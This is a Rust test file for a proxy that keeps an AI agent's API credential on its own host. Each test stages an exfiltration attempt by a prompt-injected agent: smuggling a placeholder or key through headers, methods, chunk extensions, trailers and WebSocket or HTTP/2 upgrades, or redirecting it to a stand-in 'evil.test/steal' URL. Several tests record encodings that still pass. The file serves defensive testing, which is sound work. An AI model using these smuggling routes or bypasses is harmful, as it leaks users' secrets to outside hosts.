//! Attacks on the credential claim, each written as the test that it fails: a prompt-injected agent holds the
//! placeholder and tries to move it (or the real value) to another host, or to make the provider hand the real value
//! back. The claim: the real value only ever goes to its own hosts; its placeholder or value anywhere else in a request
//! leash reads is refused (`credential-leak`); an echo comes back as the placeholder.
//!
//! Two kinds of test: an attack that fails (the claim holds), and an attack outside the claim (an encoding, a part of
//! the value, a provider that compresses anyway), written to document what happens. The first run of this suite
//! found fifteen attacks that succeeded (header names, the method, chunk extensions, trailers, 1xx heads, the bytes
//! after a 101, a CONNECT name, unpadded Basic, a response to a request without the placeholder); each is fixed, and
//! its test is among the first kind now.

use std::convert::Infallible;
use std::io::Write as _;
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use ::http::{HeaderMap, HeaderName, HeaderValue, Method, Request, Response};
use base64::Engine;
use bytes::Bytes;
use http_body_util::BodyExt;
use hyper::body::{Frame, Incoming};
use hyper::client::conn::http2::SendRequest;
use hyper_util::rt::{TokioExecutor, TokioIo};
use leash_proxy::credentials::{Secret, Secrets};
use rustls::pki_types::ServerName;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;
use tokio::sync::Notify;
use tokio_rustls::{TlsAcceptor, TlsConnector};

use super::h2::Frames;
use super::Inspecting;
use crate::support::client::{self, exchange, read_response};
use crate::support::http::Wire;
use crate::support::*;

const SECRET: &str = "sk-real-0123456789abcdef";
/// The same length as the secret, so an echo is replaced by it exactly.
const PLACEHOLDER: &str = "leash-placeholder-abc123";

/// Chunk extensions on the size line of the chunk that continues a credential split across two: a name alone, a bare
/// `;`, a name and value, a quoted value holding `;` and an escaped quote.
const EXTENSIONS: [&str; 4] = [";x", ";", ";a=b", ";a=\"q;\\\"x\""];

/// `k=NEEDLE&end=1` as a chunked body cut inside `needle`, the continuing chunk's size line carrying `extension`.
fn split_chunked(needle: &str, extension: &str) -> String {
    let (first, second) = (format!("k={}", &needle[..10]), format!("{}&end=1", &needle[10..]));
    format!("{:x}\r\n{first}\r\n{:x}{extension}\r\n{second}\r\n0\r\n\r\n", first.len(), second.len())
}

fn secrets() -> Secrets {
    Secrets::new(vec![Secret::new("provider", SECRET, PLACEHOLDER).unwrap()])
}

/// A blocklist with the provider's credential for `models.test`; `other.allowed.test` is inspected (a path rule).
fn policy(tunnel_ports: &[u16]) -> String {
    let ports: Vec<String> = tunnel_ports.iter().map(u16::to_string).collect();
    format!(
        "network:\n  mode: blocklist\n  blocked_urls: [other.allowed.test/never/]\n  ports: [80]\n  tunnel_ports: [{}]\n  \
         allow_destinations: [127.0.0.0/8]\n  credentials:\n    - name: provider\n      hosts: [models.test]\n      \
         env: PROVIDER_KEY\n      header: x-api-key\n      add: false\n",
        ports.join(", ")
    )
}

// ---------------------------------------------------------------------------------------------------------------
// The scene: one HTTPS origin answering as the provider for `models.test` and as a collector for every other name
// ---------------------------------------------------------------------------------------------------------------

/// `models.test`: 401 unless `x-api-key` is the secret; then the key it got, reflected where the path asks. It
/// remembers the last key it accepted and quotes it on `/last` to anyone. Any other name: `collected`, or a 101 on
/// `/ws`.
fn provider(last: Arc<Mutex<String>>) -> impl Fn(&Recorded) -> Reply + Send + Sync + 'static {
    move |r: &Recorded| {
        let path = r.target.split('?').next().unwrap_or_default();
        if r.sni.as_deref() != Some("models.test") {
            return match path {
                "/ws" => Reply::Raw(SWITCHING.as_bytes().to_vec()),
                _ => Reply::ok("collected"),
            };
        }
        if path == "/last" {
            return Reply::ok(format!("last key: {}", last.lock().unwrap()));
        }
        match r.header("x-api-key") {
            Some(SECRET) => {
                *last.lock().unwrap() = SECRET.to_owned();
                echo(path, r)
            }
            _ => Reply::Full { status: 401, headers: vec![], body: b"no key".to_vec() },
        }
    }
}

const SWITCHING: &str = "HTTP/1.1 101 Switching Protocols\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n";

/// The provider's answer quoting the key, in the place `path` names.
fn echo(path: &str, r: &Recorded) -> Reply {
    let key = SECRET;
    let field = |n: &str, v: String| vec![(n.to_owned(), v)];
    match path {
        "/header" => Reply::Full { status: 200, headers: field("X-Echo", format!("key={key}")), body: b"ok".to_vec() },
        "/redirect" => Reply::Full {
            status: 302,
            headers: field("Location", format!("https://evil.test/steal?k={key}")),
            body: Vec::new(),
        },
        "/reason" => Reply::Raw(format!("HTTP/1.1 401 bad key {key}\r\nContent-Length: 0\r\n\r\n").into_bytes()),
        "/trailer" => {
            Reply::Chunked { headers: vec![], chunks: vec![b"ok".to_vec()], trailers: field("X-Echo", key.to_owned()) }
        }
        "/bytes" => Reply::Chunked {
            headers: vec![],
            chunks: format!("key={key}").bytes().map(|b| vec![b]).collect(),
            trailers: vec![],
        },
        "/close" => Reply::RawThenClose(format!("HTTP/1.1 200 OK\r\n\r\nkey={key}").into_bytes()),
        "/gzip" => Reply::Full {
            status: 200,
            headers: field("Content-Encoding", "gzip".to_owned()),
            body: gzip(format!("key={key}").as_bytes(), false),
        },
        "/range" => range(r, format!("your key: {key}, ok")),
        "/early-hints" => Reply::Raw(
            format!(
                "HTTP/1.1 103 Early Hints\r\nLink: </k?{key}>; rel=preload\r\n\r\n\
                 HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
            )
            .into_bytes(),
        ),
        "/chunk-extension" => Reply::Raw(
            format!("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n2;k={key}\r\nok\r\n0\r\n\r\n").into_bytes(),
        ),
        p if p.starts_with("/split-extension/") => {
            let extension = EXTENSIONS[p["/split-extension/".len()..].parse::<usize>().unwrap()];
            let (first, second) = (format!("key={}", &key[..10]), &key[10..]);
            let (n, m) = (first.len(), second.len());
            let body = format!("{n:x}\r\n{first}\r\n{m:x}{extension}\r\n{second}\r\n0\r\n\r\n");
            Reply::Raw(format!("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n{body}").into_bytes())
        }
        "/upgrade" => Reply::Raw([SWITCHING.as_bytes(), &ws_fragments(&format!("key={key}"))].concat()),
        "/upgrade-raw" => Reply::Raw(format!("{SWITCHING}key={key}").into_bytes()),
        "/upgrade-deflate" => deflating(r.header("sec-websocket-extensions").is_some(), key),
        "/upgrade-deflate-anyway" => deflating(true, key),
        "/h2c" => {
            // The key quoted in its Upgrade too: leash's own 502 and log must not carry it.
            let switching = H2C_SWITCHING.replace("h2c", &format!("h2c, {key}"));
            Reply::Raw([switching.as_bytes(), &h2_data_bytes(&format!("key={key}"))].concat())
        }
        _ => Reply::ok(format!("your key: {key}, ok")),
    }
}

/// `message` as a server's WebSocket text message cut into one-byte frames, a ping between two of them.
fn ws_fragments(message: &str) -> Vec<u8> {
    let mut out = Vec::new();
    for (i, b) in message.bytes().enumerate() {
        if i == 7 {
            out.extend([0x89, 4]);
            out.extend(b"ping");
        }
        let fin = if i + 1 == message.len() { 0x80 } else { 0 };
        out.extend([fin | if i == 0 { 1 } else { 0 }, 1, b]);
    }
    out
}

/// A 101 selecting permessage-deflate (when `selected`) and the key in a compressed message (RSV1 set); else a 101
/// without extension and the key in a plain text message. As a server that honours the client's offer answers.
fn deflating(selected: bool, key: &str) -> Reply {
    let message = format!("key={key}");
    if !selected {
        let frame = [&[0x81, message.len() as u8][..], message.as_bytes()].concat();
        return Reply::Raw([SWITCHING.as_bytes(), &frame].concat());
    }
    let gz = gzip(message.as_bytes(), false);
    // gzip's 10-byte header (no name: stdin) and 8-byte trailer around the raw deflate data.
    let deflate = &gz[10..gz.len() - 8];
    let head = "HTTP/1.1 101 Switching Protocols\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\
                Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n";
    Reply::Raw([head.as_bytes(), &[0xc1, deflate.len() as u8], deflate].concat())
}

const H2C_SWITCHING: &str = "HTTP/1.1 101 Switching Protocols\r\nConnection: upgrade\r\nUpgrade: h2c\r\n\r\n";

/// `data` as HTTP/2 DATA frames of one byte each on stream 1: what a server held to a 1-byte flow-control window
/// sends.
fn h2_data_bytes(data: &str) -> Vec<u8> {
    data.bytes().flat_map(|b| [0, 0, 1, 0, 0, 0, 0, 0, 1, b]).collect()
}

/// `body`, or the part a `Range: bytes=a-b` asks for (206).
fn range(r: &Recorded, body: String) -> Reply {
    let asked = r.header("range").and_then(|v| v.strip_prefix("bytes=")?.split_once('-'));
    let Some((a, b)) = asked.and_then(|(a, b)| Some((a.parse::<usize>().ok()?, b.parse::<usize>().ok()?))) else {
        return Reply::ok(body);
    };
    let content_range = format!("bytes {a}-{b}/{}", body.len());
    Reply::Full {
        status: 206,
        headers: vec![("Content-Range".to_owned(), content_range)],
        body: body.as_bytes()[a..=b].to_vec(),
    }
}

/// `data` through `gzip -c` (or `gzip -dc` to decompress).
fn gzip(data: &[u8], decompress: bool) -> Vec<u8> {
    let mut child = Command::new("gzip")
        .arg(if decompress { "-dc" } else { "-c" })
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("gzip");
    child.stdin.take().unwrap().write_all(data).unwrap();
    child.wait_with_output().expect("gzip output").stdout
}

async fn scene() -> Inspecting {
    let ca = TestCa::new();
    let tls = TlsUpstream::with(&ca, provider(Arc::default())).await;
    let leash = Leash::builder(&policy(&[tls.port()])).inspecting(&ca.pem).secrets(secrets()).start().await;
    Inspecting { ca, tls, leash }
}

/// An HTTP/1.1 request: `start` (method and target), a Host naming `host` at the origin's port, `lines`, and `body`
/// with its Content-Length when not empty.
fn request(t: &Inspecting, host: &str, start: &str, lines: &[&str], body: &str) -> String {
    let mut out = format!("{start} HTTP/1.1\r\nHost: {host}:{}\r\n", t.tls.port());
    for line in lines {
        out.push_str(line);
        out.push_str("\r\n");
    }
    if !body.is_empty() {
        out.push_str(&format!("Content-Length: {}\r\n", body.len()));
    }
    out.push_str("\r\n");
    out.push_str(body);
    out
}

/// A request to `other.allowed.test` inside its inspected tunnel; the response.
async fn to_other(t: &Inspecting, start: &str, lines: &[&str], body: &str) -> Resp {
    t.inner("other.allowed.test", request(t, "other.allowed.test", start, lines, body)).await
}

/// Everything the client receives for a `GET path` to the provider carrying the placeholder (and `lines`), with
/// `Connection: close`: read until leash closes the connection.
async fn from_provider(t: &Inspecting, path: &str, lines: &[&str]) -> String {
    let placeholder = format!("x-api-key: {PLACEHOLDER}");
    let lines: Vec<&str> =
        [placeholder.as_str(), "Connection: close"].into_iter().chain(lines.iter().copied()).collect();
    received(t, "models.test", request(t, "models.test", &format!("GET {path}"), &lines, "")).await
}

/// Everything the client receives for `raw` inside a tunnel to `host`, until leash closes the connection.
async fn received(t: &Inspecting, host: &str, raw: String) -> String {
    let mut tls = t.tunnel(host, &[b"http/1.1"]).await;
    tls.write_all(raw.as_bytes()).await.unwrap();
    tls.flush().await.unwrap();
    let mut got = Vec::new();
    // A close without close_notify is an error, after the bytes read before it.
    let _ = within("leash to close the connection", tls.read_to_end(&mut got)).await;
    String::from_utf8_lossy(&got).into_owned()
}

/// True if a request the origin received carries `needle` anywhere (target, head, body, trailers).
fn reached(t: &Inspecting, needle: &str) -> bool {
    t.tls.origin.requests().iter().any(|r| {
        r.head.raw.contains(needle) || r.body.text().contains(needle) || r.trailers.iter().any(|l| l.contains(needle))
    })
}

/// The invariant under every attack: the real value reached the origin only on connections named `models.test`.
fn secret_only_at_home(t: &Inspecting) {
    for r in t.tls.origin.requests() {
        let carries = r.head.raw.contains(SECRET) || r.body.text().contains(SECRET);
        assert!(!carries || r.sni.as_deref() == Some("models.test"), "the value went to {:?}: {r:#?}", r.sni);
    }
}

/// The provider received the real value (so the echo that follows is a real one).
fn provider_got_the_secret(t: &Inspecting) {
    let got = t.tls.origin.requests().iter().any(|r| r.header("x-api-key") == Some(SECRET));
    assert!(got, "the provider received the value: {:#?}", t.tls.origin.requests());
}

/// A request to `other.allowed.test` with these header lines is refused as a leak, and nothing reaches the host.
async fn header_refused(lines: &[&str]) {
    let t = scene().await;
    let r = to_other(&t, "GET /x", lines, "").await;
    assert_refused(&r, 403, "credential-leak");
    assert!(t.tls.origin.requests().is_empty(), "nothing reached the other host: {:#?}", t.tls.origin.requests());
}

// ---------------------------------------------------------------------------------------------------------------
// The placeholder to another host over inspected HTTP/1.1: the URL, headers, bodies
// ---------------------------------------------------------------------------------------------------------------

#[tokio::test]
async fn placeholder_in_a_cookie_is_refused() {
    header_refused(&[&format!("Cookie: sid=1; k={PLACEHOLDER}")]).await;
}

#[tokio::test]
async fn placeholder_in_a_referer_is_refused() {
    header_refused(&[&format!("Referer: https://docs.test/?k={PLACEHOLDER}")]).await;
}

#[tokio::test]
async fn placeholder_in_x_forwarded_for_is_refused() {
    header_refused(&[&format!("X-Forwarded-For: 10.0.0.1, {PLACEHOLDER}")]).await;
}

#[tokio::test]
async fn placeholder_in_the_user_agent_is_refused() {
    header_refused(&[&format!("User-Agent: agent/1.0 ({PLACEHOLDER})")]).await;
}

#[tokio::test]
async fn placeholder_in_the_credentials_own_header_name_in_mixed_case_is_refused_elsewhere() {
    header_refused(&[&format!("X-API-KEY: {PLACEHOLDER}")]).await;
}

#[tokio::test]
async fn placeholder_in_the_second_of_a_repeated_header_is_refused() {
    header_refused(&["Cookie: a=1", &format!("Cookie: b={PLACEHOLDER}")]).await;
}

#[tokio::test]
async fn placeholder_glued_inside_a_longer_value_is_refused() {
    header_refused(&[&format!("X-Trace: 00ff{PLACEHOLDER}ff00")]).await;
}

#[tokio::test]
async fn placeholder_in_a_basic_authorization_is_refused() {
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("user:{PLACEHOLDER}"));
    header_refused(&[&format!("Authorization: basic {basic}")]).await;
}

#[tokio::test]
async fn placeholder_as_a_header_name_is_refused() {
    header_refused(&[&format!("{PLACEHOLDER}: 1")]).await;
}

#[tokio::test]
async fn plain_http_placeholder_as_a_header_name_is_refused() {
    let t = scene().await;
    let up = Upstream::start().await;
    t.leash.reload(&policy(&[t.tls.port()]).replace("ports: [80]", &format!("ports: [{}]", up.port())));
    let url = format!("http://elsewhere.test:{}/x", up.port());
    let r = exchange(t.leash.addr, client::request("GET", &url, &[&format!("{PLACEHOLDER}: 1")], "")).await;
    assert_refused(&r, 403, "credential-leak");
    assert!(up.requests().iter().all(|r| !r.head.raw.contains(PLACEHOLDER)), "{:#?}", up.requests());
}

#[tokio::test]
async fn placeholder_as_the_request_method_is_refused() {
    let t = scene().await;
    let r = to_other(&t, &format!("{PLACEHOLDER} /x"), &[], "").await;
    assert_refused(&r, 403, "credential-leak");
    assert!(!reached(&t, PLACEHOLDER));
}

#[tokio::test]
async fn placeholder_in_a_request_body_sent_a_byte_per_write_is_cut_off_before_its_last_byte() {
    let (raw, t) = raw_scene().await;
    let body = format!("k={PLACEHOLDER}&end=1");
    let head = format!(
        "POST /upload HTTP/1.1\r\nHost: other.allowed.test:{}\r\nContent-Length: {}\r\n\r\n",
        raw.port,
        body.len()
    );
    let mut tls = raw.tunnel(&t).await;
    tls.write_all(head.as_bytes()).await.unwrap();
    tls.flush().await.unwrap();
    for b in body.bytes() {
        // leash may already have refused and closed: the rest of the writes may fail.
        if tls.write_all(&[b]).await.is_err() || tls.flush().await.is_err() {
            break;
        }
    }
    let r = within("the refusal", read_response(&mut Wire::new(tls), "POST")).await.unwrap();
    assert_refused(&r, 403, "credential-leak");
    within("leash to drop the upstream connection", raw.ended.notified()).await;
    let got = raw.got();
    assert!(got.contains("POST /upload"), "the head went up before the body was watched: {got}");
    assert!(!got.contains(PLACEHOLDER), "the placeholder's last byte never left: {got}");
}

#[tokio::test]
async fn placeholder_in_a_request_chunk_extension_is_refused() {
    let (raw, t) = raw_scene().await;
    let chunked = format!("2;k={PLACEHOLDER}\r\nok\r\n0\r\n\r\n");
    let r = raw.send(&t, &chunked).await;
    assert_refused(&r, 403, "credential-leak");
    assert!(!raw.got().contains(PLACEHOLDER), "{}", raw.got());
}

#[tokio::test]
async fn placeholder_or_value_split_across_chunks_with_an_extension_on_the_second_is_refused() {
    for needle in [PLACEHOLDER, SECRET] {
        for extension in EXTENSIONS {
            let (raw, t) = raw_scene().await;
            let r = raw.send(&t, &split_chunked(needle, extension)).await;
            assert_refused(&r, 403, "credential-leak");
            let got = raw.got();
            let sent = got.split_once("\r\n\r\n").map_or("", |(_, body)| body);
            let data = String::from_utf8_lossy(&dechunk_prefix(sent.as_bytes())).into_owned();
            assert!(!data.contains(needle), "{extension}: the data that went up holds `{needle}`: {got:?}");
        }
    }
}

#[tokio::test]
async fn plain_http_placeholder_or_value_split_across_chunks_with_an_extension_on_the_second_is_refused() {
    let t = scene().await;
    let up = Upstream::start().await;
    t.leash.reload(&policy(&[t.tls.port()]).replace("ports: [80]", &format!("ports: [{}]", up.port())));
    for needle in [PLACEHOLDER, SECRET] {
        for extension in EXTENSIONS {
            let raw = format!(
                "POST http://elsewhere.test:{port}/x HTTP/1.1\r\nHost: elsewhere.test:{port}\r\n\
                 Transfer-Encoding: chunked\r\n\r\n{}",
                split_chunked(needle, extension),
                port = up.port()
            );
            let r = exchange(t.leash.addr, raw).await;
            assert_refused(&r, 403, "credential-leak");
        }
    }
    assert!(up.requests().iter().all(|r| !r.body.text().contains(PLACEHOLDER)), "{:#?}", up.requests());
    assert!(up.requests().iter().all(|r| !r.body.text().contains(SECRET)), "{:#?}", up.requests());
}

/// The data of the whole chunks at the start of a chunked body (extensions dropped), and of the one cut off.
fn dechunk_prefix(mut body: &[u8]) -> Vec<u8> {
    let mut data = Vec::new();
    while let Some(end) = body.windows(2).position(|w| w == b"\r\n") {
        let line = String::from_utf8_lossy(&body[..end]);
        let size = usize::from_str_radix(line.split(';').next().unwrap_or_default(), 16).unwrap_or(0);
        let rest = &body[end + 2..];
        if size == 0 {
            break;
        }
        data.extend_from_slice(&rest[..size.min(rest.len())]);
        body = rest.get(size + 2..).unwrap_or_default();
    }
    data
}

#[tokio::test]
async fn placeholder_in_a_request_trailer_is_refused() {
    let (raw, t) = raw_scene().await;
    let chunked = format!("2\r\nok\r\n0\r\nX-Note: {PLACEHOLDER}\r\n\r\n");
    let r = raw.send(&t, &chunked).await;
    assert_refused(&r, 403, "credential-leak");
    assert!(!raw.got().contains(PLACEHOLDER), "{}", raw.got());
}

#[tokio::test]
async fn placeholder_in_an_upgraded_stream_to_another_host_is_refused() {
    let t = scene().await;
    let mut tls = t.tunnel("other.allowed.test", &[b"http/1.1"]).await;
    let upgrade = request(&t, "other.allowed.test", "GET /ws", &["Connection: upgrade", "Upgrade: websocket"], "");
    tls.write_all(upgrade.as_bytes()).await.unwrap();
    tls.flush().await.unwrap();
    let mut wire = Wire::new(tls);
    let head = within("101", wire.head()).await.unwrap().unwrap();
    assert!(head.start.contains("101"), "{}", head.raw);
    // The test origin reads the upgraded bytes as a request of its own: what it records is what went up.
    let inside = request(&t, "other.allowed.test", &format!("GET /?k={PLACEHOLDER}"), &[], "");
    wire.io.write_all(inside.as_bytes()).await.unwrap();
    wire.io.flush().await.unwrap();
    let _ = before(Duration::from_secs(2), read_response(&mut wire, "GET")).await;
    assert!(!reached(&t, PLACEHOLDER), "{:#?}", t.tls.origin.requests());
}

#[tokio::test]
async fn placeholder_split_across_two_writes_in_an_upgraded_stream_is_refused() {
    let t = scene().await;
    let mut tls = t.tunnel("other.allowed.test", &[b"http/1.1"]).await;
    let upgrade = request(&t, "other.allowed.test", "GET /ws", &["Connection: upgrade", "Upgrade: websocket"], "");
    tls.write_all(upgrade.as_bytes()).await.unwrap();
    tls.flush().await.unwrap();
    let mut wire = Wire::new(tls);
    let head = within("101", wire.head()).await.unwrap().unwrap();
    assert!(head.start.contains("101"), "{}", head.raw);
    // Two writes with a pause between: the relay goes idle (and flushes) while half the placeholder is held.
    let inside = request(&t, "other.allowed.test", &format!("GET /?k={PLACEHOLDER}"), &[], "");
    let split = inside.find(PLACEHOLDER).unwrap() + 8;
    wire.io.write_all(&inside.as_bytes()[..split]).await.unwrap();
    wire.io.flush().await.unwrap();
    tokio::time::sleep(Duration::from_millis(200)).await;
    wire.io.write_all(&inside.as_bytes()[split..]).await.unwrap();
    wire.io.flush().await.unwrap();
    let _ = before(Duration::from_secs(2), read_response(&mut wire, "GET")).await;
    assert!(!reached(&t, PLACEHOLDER), "{:#?}", t.tls.origin.requests());
    assert!(!reached(&t, &PLACEHOLDER[8..]), "the rest went up: {:#?}", t.tls.origin.requests());
}

// Outside the claim (leash matches the raw bytes and Basic-decoded ones): documented as they pass.

#[tokio::test]
async fn percent_encoded_placeholder_in_the_query_passes_outside_the_claim() {
    let t = scene().await;
    let every_byte: String = PLACEHOLDER.bytes().map(|b| format!("%{b:02x}")).collect();
    let one_byte = PLACEHOLDER.replacen('-', "%2D", 1);
    for query in [&every_byte, &one_byte] {
        let r = to_other(&t, &format!("GET /collect?k={query}"), &[], "").await;
        assert_eq!(r.status, 200, "{query}: {}", r.text());
    }
    let targets: Vec<String> = t.tls.origin.requests().into_iter().map(|r| r.target).collect();
    assert_eq!(targets, [format!("/collect?k={every_byte}"), format!("/collect?k={one_byte}")]);
    secret_only_at_home(&t);
}

#[tokio::test]
async fn base64_placeholder_in_a_body_or_a_non_basic_header_passes_outside_the_claim() {
    let t = scene().await;
    let b64 = base64::engine::general_purpose::STANDARD.encode(PLACEHOLDER);
    assert_eq!(to_other(&t, "POST /upload", &[], &format!("k={b64}")).await.status, 200);
    assert_eq!(to_other(&t, "GET /a", &[&format!("Authorization: Bearer {b64}")], "").await.status, 200);
    assert_eq!(to_other(&t, "GET /b", &[&format!("X-Data: {b64}")], "").await.status, 200);
    assert_eq!(t.tls.origin.requests().len(), 3);
    assert!(reached(&t, &b64));
}

#[tokio::test]
async fn basic_authorization_without_base64_padding_is_refused_too() {
    // `user:<placeholder>` is 29 bytes: its base64 ends in one `=`. Clients that leave it out are decoded as well.
    let t = scene().await;
    let unpadded = base64::engine::general_purpose::STANDARD_NO_PAD.encode(format!("user:{PLACEHOLDER}"));
    let r = to_other(&t, "GET /x", &[&format!("Authorization: Basic {unpadded}")], "").await;
    assert_refused(&r, 403, "credential-leak");
    assert!(!reached(&t, &unpadded));
}

#[tokio::test]
async fn placeholder_split_across_two_keep_alive_requests_passes_outside_the_claim() {
    let t = scene().await;
    let (a, b) = PLACEHOLDER.split_at(12);
    let two = [
        request(&t, "other.allowed.test", &format!("GET /a?k={a}"), &[], ""),
        request(&t, "other.allowed.test", &format!("GET /b?k={b}"), &[], ""),
    ];
    let mut tls = t.tunnel("other.allowed.test", &[b"http/1.1"]).await;
    tls.write_all(two.concat().as_bytes()).await.unwrap();
    tls.flush().await.unwrap();
    let mut wire = Wire::new(tls);
    for _ in 0..2 {
        assert_eq!(within("response", read_response(&mut wire, "GET")).await.unwrap().status, 200);
    }
    let targets: Vec<String> = t.tls.origin.requests().into_iter().map(|r| r.target).collect();
    assert_eq!(targets, [format!("/a?k={a}"), format!("/b?k={b}")], "each half alone is not the placeholder");
}

// ---------------------------------------------------------------------------------------------------------------
// The provider's echo of the real value, over HTTP/1.1
// ---------------------------------------------------------------------------------------------------------------

/// The client got the echo as the placeholder, and never the value.
fn placeholder_not_value(t: &Inspecting, got: &str, expected: &str) {
    provider_got_the_secret(t);
    assert!(!got.contains(SECRET), "the value reached the client: {got}");
    assert!(got.contains(expected), "expected `{expected}` in: {got}");
}

#[tokio::test]
async fn echo_in_a_response_header_comes_back_as_the_placeholder() {
    let t = scene().await;
    let got = from_provider(&t, "/header", &[]).await;
    placeholder_not_value(&t, &got, &format!("X-Echo: key={PLACEHOLDER}"));
}

#[tokio::test]
async fn echo_in_a_redirects_location_comes_back_as_the_placeholder_and_is_not_followed() {
    let t = scene().await;
    let got = from_provider(&t, "/redirect", &[]).await;
    placeholder_not_value(&t, &got, &format!("Location: https://evil.test/steal?k={PLACEHOLDER}"));
    assert!(got.starts_with("HTTP/1.1 302 "), "{got}");
    assert_eq!(t.tls.origin.requests().len(), 1, "leash did not follow the redirect");
    assert!(!t.leash.resolver.asked().iter().any(|n| n == "evil.test"), "{:?}", t.leash.resolver.asked());
}

#[tokio::test]
async fn echo_in_the_status_lines_reason_comes_back_as_the_placeholder() {
    let t = scene().await;
    let got = from_provider(&t, "/reason", &[]).await;
    placeholder_not_value(&t, &got, &format!("HTTP/1.1 401 bad key {PLACEHOLDER}\r\n"));
}

#[tokio::test]
async fn echo_in_a_chunked_trailer_comes_back_as_the_placeholder() {
    let t = scene().await;
    let got = from_provider(&t, "/trailer", &[]).await;
    placeholder_not_value(&t, &got, &format!("0\r\nX-Echo: {PLACEHOLDER}\r\n\r\n"));
}

#[tokio::test]
async fn echo_split_into_one_byte_chunks_comes_back_as_the_placeholder() {
    let t = scene().await;
    let got = from_provider(&t, "/bytes", &[]).await;
    provider_got_the_secret(&t);
    // The chunk framing stays in place; the data bytes, framing taken out, are the placeholder.
    let mut wire = Wire::new(std::io::Cursor::new(got.clone().into_bytes()));
    let data = within("parse", async {
        let _ = wire.head().await.unwrap();
        let mut body = Vec::new();
        wire.chunked(&mut |d| body.extend_from_slice(d)).await.unwrap();
        body
    })
    .await;
    assert_eq!(String::from_utf8_lossy(&data), format!("key={PLACEHOLDER}"), "{got}");
    assert!(!got.contains(SECRET));
}

#[tokio::test]
async fn echo_split_across_chunks_with_an_extension_on_the_second_comes_back_as_the_placeholder() {
    let t = scene().await;
    for (i, extension) in EXTENSIONS.iter().enumerate() {
        let got = from_provider(&t, &format!("/split-extension/{i}"), &[]).await;
        let data =
            String::from_utf8_lossy(&dechunk_prefix(got.split_once("\r\n\r\n").unwrap().1.as_bytes())).into_owned();
        assert_eq!(data, format!("key={PLACEHOLDER}"), "{extension}: {got:?}");
    }
    provider_got_the_secret(&t);
}

#[tokio::test]
async fn echo_in_a_close_delimited_body_comes_back_as_the_placeholder() {
    let t = scene().await;
    let got = from_provider(&t, "/close", &[]).await;
    placeholder_not_value(&t, &got, &format!("\r\n\r\nkey={PLACEHOLDER}"));
}

#[tokio::test]
async fn echo_in_an_informational_1xx_head_comes_back_as_the_placeholder() {
    let t = scene().await;
    let got = from_provider(&t, "/early-hints", &[]).await;
    placeholder_not_value(&t, &got, &format!("Link: </k?{PLACEHOLDER}>"));
}

#[tokio::test]
async fn echo_in_a_response_chunk_extension_comes_back_as_the_placeholder() {
    let t = scene().await;
    let got = from_provider(&t, "/chunk-extension", &[]).await;
    placeholder_not_value(&t, &got, &format!("2;k={PLACEHOLDER}\r\n"));
}

/// A WebSocket handshake to the provider on `path` with the placeholder and `lines`; the response head, and the
/// bytes after it until leash closes the connection or `want` bytes came.
async fn upgrade(t: &Inspecting, path: &str, lines: &[&str], want: usize) -> (crate::support::http::Head, Vec<u8>) {
    let placeholder = format!("x-api-key: {PLACEHOLDER}");
    let lines: Vec<&str> = [placeholder.as_str()].into_iter().chain(lines.iter().copied()).collect();
    let mut tls = t.tunnel("models.test", &[b"http/1.1"]).await;
    tls.write_all(request(t, "models.test", &format!("GET {path}"), &lines, "").as_bytes()).await.unwrap();
    tls.flush().await.unwrap();
    let mut wire = Wire::new(tls);
    let head = within("the response head", wire.head()).await.unwrap().unwrap();
    while wire.buf.len() < want {
        // A close without close_notify is an error, after the bytes read before it.
        if !matches!(within("the upgraded bytes", wire.fill()).await, Ok(n) if n > 0) {
            break;
        }
    }
    (head, std::mem::take(&mut wire.buf))
}

const WEBSOCKET: [&str; 4] = [
    "Connection: upgrade",
    "Upgrade: websocket",
    "Sec-WebSocket-Version: 13",
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
];

/// The payloads of a server's unmasked WebSocket frames (or HTTP/2 DATA frames, `h2`), joined, framing taken out.
fn payloads(mut wire: &[u8], h2: bool) -> Vec<u8> {
    let mut out = Vec::new();
    while wire.len() >= 2 {
        let (header, len) = match h2 {
            true => (9, usize::from(wire[2])),
            false => (2, usize::from(wire[1] & 0x7f)),
        };
        let Some(payload) = wire.get(header..header + len) else { break };
        if h2 || wire[0] & 0x0f < 8 {
            out.extend_from_slice(payload);
        }
        wire = &wire[header + len..];
    }
    out
}

#[tokio::test]
async fn echo_in_a_websocket_message_cut_into_one_byte_fragments_comes_back_as_the_placeholder() {
    let t = scene().await;
    let message = format!("key={PLACEHOLDER}");
    let (head, wire) = upgrade(&t, "/upgrade", &WEBSOCKET, ws_fragments(&message).len()).await;
    assert!(head.start.contains("101"), "{}", head.raw);
    provider_got_the_secret(&t);
    assert_eq!(wire, ws_fragments(&message), "the frames as sent, the key's bytes the placeholder's");
    assert_eq!(String::from_utf8_lossy(&payloads(&wire, false)), message);
}

#[tokio::test]
async fn a_websocket_to_the_provider_negotiates_no_compression() {
    let t = scene().await;
    let offer = [&WEBSOCKET[..], &["Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits"]].concat();
    let message = format!("key={PLACEHOLDER}");
    let (head, wire) = upgrade(&t, "/upgrade-deflate", &offer, 2 + message.len()).await;
    assert!(head.start.contains("101"), "{}", head.raw);
    provider_got_the_secret(&t);
    let offered = t.tls.origin.requests().iter().any(|r| r.header("sec-websocket-extensions").is_some());
    assert!(!offered, "the offer reached the provider: {:#?}", t.tls.origin.requests());
    assert!(head.header("sec-websocket-extensions").is_none(), "{}", head.raw);
    assert_eq!(String::from_utf8_lossy(&payloads(&wire, false)), message);
}

#[tokio::test]
async fn a_websocket_101_that_selects_an_extension_anyway_is_refused() {
    let t = scene().await;
    // Enough to see a frame's header come through, where it would.
    let (head, wire) = upgrade(&t, "/upgrade-deflate-anyway", &WEBSOCKET, 2).await;
    assert!(head.start.contains("502"), "{}", head.raw);
    assert!(!String::from_utf8_lossy(&wire).contains("key="), "nothing after the 101 came: {wire:?}");
    let log = t.leash.log_until("the outcome", |l| l.get("error").is_some()).await;
